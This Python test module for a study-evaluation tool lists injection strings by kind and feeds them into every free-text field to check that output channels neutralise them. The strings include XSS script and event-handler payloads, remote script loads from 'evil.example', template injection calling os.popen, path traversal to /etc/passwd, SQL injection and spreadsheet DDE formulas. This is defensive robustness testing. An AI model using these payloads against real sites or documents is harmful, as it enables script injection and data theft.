"""Text that would bite if a channel let it, by kind; and a study full of it."""

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle

from hiteval.results.evaluation import evaluate
from hiteval.study.study import Study

BITE = "window.bitten=1"
STRINGS: dict[str, list[str]] = {
    "scripts": [
        f"<script>{BITE}</script>",
        f"<ScRiPt >{BITE}</sCrIpT >",
        f"</script><script>{BITE}</script>",
        f"</title></style></textarea></noscript><script>{BITE}</script>",
        f"<scr<script>ipt>{BITE}</scr</script>ipt>",
        f"<script/x>{BITE}</script/x>",
        f"<script>{BITE}//",
        f"<!--><script>{BITE}</script>-->",
        f"--><script>{BITE}</script>",
        f"]]><script>{BITE}</script>",
        f"<![CDATA[<script>{BITE}</script>]]>",
        "<script src=https://evil.example/x.js></script>",
        "<script src=//evil.example/x.js></script>",
        f"<script type=module>{BITE}</script>",
        f"&lt;script&gt;{BITE}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{BITE}",
        f"\u003cscript\u003e{BITE}",
        f"\\u003cscript\\u003e{BITE}",
        f"%3Cscript%3E{BITE}%3C/script%3E",
        f"\uff1cscript\uff1e{BITE}\uff1c/script\uff1e",
    ],
    "handlers": [
        f"<img src=x onerror={BITE}>",
        f'"><img src=x onerror={BITE}>',
        f"'><img src=x onerror={BITE}>",
        f'" onmouseover="{BITE}" autofocus onfocus="{BITE}',
        f"' onmouseover='{BITE}' autofocus onfocus='{BITE}",
        f"` onmouseover=`{BITE}",
        f"<svg/onload={BITE}>",
        f"<svg><animate onbegin={BITE} attributeName=x>",
        f"<body onload={BITE}>",
        f"<details open ontoggle={BITE}>",
        f"<input autofocus onfocus={BITE}>",
        f"<video><source onerror={BITE}></video>",
        f"<marquee onstart={BITE}>",
        f"<iframe srcdoc='<script>parent.{BITE}</script>'></iframe>",
        f"<object data='javascript:{BITE}'></object>",
        f"<math><a xlink:href='javascript:{BITE}'>x</a></math>",
        f"<style onload={BITE}></style>",
        f"<p style='animation:x' onanimationstart={BITE}>",
        f"<noscript><p title='</noscript><img src=x onerror={BITE}>'>",
        f"<table><td><svg><desc><td><img src=x onerror={BITE}>",
    ],
    "other hosts": [
        "<img src=https://evil.example/x.png>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<p style=\"background:url('https://evil.example/x')\">",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<form action=https://evil.example/><button>send</button></form>",
        "<iframe src=https://evil.example/></iframe>",
        "<embed src=https://evil.example/>",
        "<audio src=https://evil.example/ autoplay>",
        "![a](https://evil.example/x.png)",
        "<a href=x ping=https://evil.example/>x</a>",
    ],
    "addresses": [
        f"javascript:{BITE}",
        f"JaVaScRiPt:{BITE}",
        f" javascript:{BITE}",
        f"java\tscript:{BITE}",
        f"javascript&colon;{BITE}",
        f"javascript://example.org/%0a{BITE}",
        f"vbscript:{BITE}",
        f"data:text/html,<script>{BITE}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYml0dGVuPTE8L3NjcmlwdD4=",
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:evil.example",
        "https://",
        f'https://example.org/" onclick="{BITE}',
        f"https://example.org/'><script>{BITE}</script>",
        "https://example.org/a b",
        "https://example.org/\u202egpj.exe",
        "mailto:a@evil.example",
        "blob:https://evil.example/x",
        "<https://evil.example>",
        f"<javascript:{BITE}>",
        f"[a](javascript:{BITE})",
        f"[a]: javascript:{BITE}",
        "http://[::1]/",
        "https://user:password@example.org/",
    ],
    "markdown and MyST": [
        "# A heading",
        "---",
        "***bold*** _it_ ~~no~~ `code`",
        "```{include} /etc/passwd\n```",
        "```{code-cell}\nimport os\n```",
        f"```{{raw}} html\n<script>{BITE}</script>\n```",
        ":::{note}\nx\n:::",
        "{eval-rst}`x`",
        "{glue:text}`x`",
        "{doc}`index` {ref}`search` {download}`/etc/passwd`",
        f"{{raw:html}}`<script>{BITE}</script>`",
        "(target)=",
        "[^1] [^1]: x",
        "[@citation]",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- [ ] x",
        "> x",
        "    indented",
        "%comment",
        "+++",
        "<!-- x -->",
        "$name ${name} $$",
        "\\newline \\ ",
        "--- ... -- (c) \"x\" 'y'",
    ],
    "templates": [
        "{{ 7*7 }}",
        "{% for x in y %}",
        "{# x #}",
        "{{ cycler.__init__.__globals__.os.popen('true') }}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0} {x!r} {x.__class__} %s %(x)s %n",
        "$title",
        "$(true) `true` ; true | true && true",
    ],
    "mathematics": [
        "$x^2$",
        "$$x^2$$",
        r"\(x\)",
        r"\[x\]",
        r"\begin{align}x\end{align}",
        f"$\\href{{javascript:{BITE}}}{{x}}$",
        r"$\def\a{\a\a}\a$",
        "$5 and $6",
        "x_1^2 \\frac",
    ],
    "characters": [
        "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x1f\x7f",
        "a\x0b\x0cb",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x80\x85\x9f",
        "safe\u202etxt.exe",
        "\u202dabc\u202c",
        "\u2066x\u2069\u2067y\u2068z",
        "\u2069\u2069\u202c\u202c out",
        "\u200e\u200f\u061c",
        "zero\u200bwidth\u200cnon\u200djoiner\u2060\ufeff",
        "soft\u00adhyphen",
        "Z\u0351\u036b\u0343a\u0321\u0353l\u034dg\u0321o",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 12 of 20",
        "\u05e9\u05dc\u05d5\u05dd (1)",
        "\u4e2d\u6587 \u65e5\u672c\u8a9e \ud55c\uad6d\uc5b4",
        "\U0001f469\u200d\u2695\ufe0f \U0001f1ec\U0001f1e7",
        "\ufffd\ufffe\uffff",
        "\U000e0001\U000e0041",
        "\u2028line\u2029paragraph",
        "\u3000wide\u00a0space\u2003",
        "\ufb01 \u017f \u0130 \u0131 \u00df \u2126 \u212a",
        "\u1680\u180e",
        "a" * 400,
        "Donaudampfschifffahrts" * 20,
    ],
    "words that programs take for values": [
        *["null", "NULL", "None", "nil", "undefined", "NaN", "nan", "inf", "-inf"],
        *["true", "false", "0", "-1", "1e309", "0x10", "007", "1,000.5", "1/0"],
        *["2020-13-45", "NO", "on", "~", "[]", "{}", "__proto__", "constructor"],
        *["..", "../../etc/passwd", "CON", "a/b", "C:\\x", "' OR 1=1 --", "''''", '""'],
    ],
    "formulas": [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("https://evil.example","x")',
        "\t=1+1",
        "\uff1d1+1",
    ],
}
ALL = [text for texts in STRINGS.values() for text in texts]
CHANNELS = {
    "teams": ["name", "acronym", "focus", "aliases"],
    "sources": ["title", "publisher", "url", "role"],
    "segments": ["summary", "quote", "locator"],
    "codings": ["note"],
    "team_events": ["note"],
    "organisations": ["name"],
    "consensus": ["reason"],
    "ratings": ["rationale"],
    "summaries": ["summary"],
    "measures": ["measure", "period", "qualifier", "unit", "comparator"],
    "actions": ["action", "owner_role"],
    "interpretations": ["text"],
    "involvement": ["group", "aim", "what_they_did", "what_changed", "reflection"],
}
SETTINGS = ["title", "question", "licence"]


def fill(study: Study, texts: list[str]) -> Study:
    """Put the texts into every field of free text, in turn."""
    turn = cycle(texts)
    tables = {
        name: study.tables[name].assign(
            **{
                column: [next(turn) for _ in range(len(study.tables[name]))]
                for column in columns
            }
        )
        for name, columns in CHANNELS.items()
    }
    settings, framework = _records(study, turn)
    return replace(study.with_tables(tables), settings=settings, framework=framework)


def _records(study: Study, turn: Iterator[str]):
    settings = study.settings.model_copy(
        update={field: next(turn) for field in SETTINGS}
        | {
            "limits": (next(turn),),
            "strands": {key: next(turn) for key in study.settings.strands},
            "coders": {
                key: coder.model_copy(update={"did": next(turn), "name": next(turn)})
                for key, coder in study.settings.coders.items()
            },
        }
    )
    areas = tuple(
        area.model_copy(
            update={
                "name": f"{next(turn)} {number}",
                "definition": next(turn),
                "criteria": tuple(
                    criterion.model_copy(
                        update={
                            "name": f"{next(turn)} {criterion.id}",
                            "definition": next(turn),
                        }
                    )
                    for criterion in area.criteria
                ),
            }
        )
        for number, area in enumerate(study.framework.areas)
    )
    framework = study.framework.model_copy(update={"areas": areas, "title": next(turn)})
    return settings, framework


# Every field that holds free text.
FREE_TEXT = {
    "teams": ["name", "acronym", "focus", "aliases"],
    "sources": ["title", "publisher", "url"],
    "segments": ["summary", "quote", "locator"],
    "team_events": ["note"],
    "organisations": ["name"],
    "summaries": ["summary"],
    "measures": ["measure", "period", "qualifier", "unit", "comparator"],
    "actions": ["action", "owner_role"],
    "involvement": ["group", "aim", "what_they_did", "what_changed", "reflection"],
}


def hostile(study, text):
    tables = {
        name: study.tables[name].assign(**dict.fromkeys(columns, text))
        for name, columns in FREE_TEXT.items()
    }
    return evaluate(replace(study.with_tables(tables)))
